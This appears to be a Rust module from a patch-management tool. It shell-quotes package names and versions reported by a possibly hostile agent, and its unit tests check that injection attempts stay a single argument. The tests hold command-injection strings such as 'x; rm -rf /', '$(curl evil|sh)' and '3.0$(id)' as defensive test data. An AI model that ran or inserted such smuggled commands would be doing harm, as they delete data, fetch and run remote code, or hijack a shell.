//! Arguments of the commands a finding suggests (`apt-get install --only-upgrade NAME=VERSION`,
//! `cargo update -p NAME@VERSION --precise V`), built from facts an agent reported.
//!
//! A hostile agent can report any package name or version, so (issue 8, finding 5) a
//! name and version that follow Debian policy go in as they are, and anything else is
//! quoted for a POSIX shell by `patchday_text::shell_word`: an operator who copies the
//! command runs `apt-get` with one odd argument, never a second command.

use patchday_pkg::deb::is_policy_package_name;
use patchday_pkg::version::is_valid_deb;
use patchday_text::shell_word;

/// A Debian package name as one shell argument.
pub fn deb_package(name: &str) -> String {
    if is_policy_package_name(name) {
        name.to_string()
    } else {
        shell_word(name).into_owned()
    }
}

/// `NAME=VERSION` for apt as one shell argument.
pub fn deb_package_version(name: &str, version: &str) -> String {
    let word = format!("{name}={version}");
    if is_policy_package_name(name) && is_valid_deb(version) {
        word
    } else {
        shell_word(&word).into_owned()
    }
}

/// Several Debian package names, each one shell argument, separated by spaces.
pub fn deb_packages<'a>(names: impl IntoIterator<Item = &'a str>) -> String {
    names
        .into_iter()
        .map(deb_package)
        .collect::<Vec<_>>()
        .join(" ")
}

/// Any other word (a crate name, a semver version) as one shell argument.
pub fn word(s: &str) -> String {
    shell_word(s).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn policy_names_and_versions_stay_plain() {
        assert_eq!(deb_package("libssl3"), "libssl3");
        assert_eq!(deb_package("g++-12"), "g++-12");
        assert_eq!(
            deb_package_version("openssl", "1:3.0.15-1~deb12u1"),
            "openssl=1:3.0.15-1~deb12u1"
        );
        assert_eq!(
            deb_packages(["libxml2", "libxml2-utils"]),
            "libxml2 libxml2-utils"
        );
    }

    #[test]
    fn hostile_package_names_from_facts_are_quoted_as_one_argument() {
        for name in [
            "x; rm -rf /",
            "$(curl evil|sh)",
            "`reboot`",
            "a\nb",
            "Foo_Bar",
            "-o",
        ] {
            let arg = deb_package(name);
            assert_eq!(
                shlex::split(&arg).unwrap_or_default(),
                vec![name.to_string()],
                "{arg}"
            );
        }
        assert_eq!(deb_package("x;id"), "'x;id'");
        let arg = deb_package_version("openssl", "3.0$(id)");
        assert_eq!(arg, "'openssl=3.0$(id)'");
        let arg = deb_packages(["ok", "a b"]);
        assert_eq!(shlex::split(&arg).unwrap_or_default(), vec!["ok", "a b"]);
    }
}
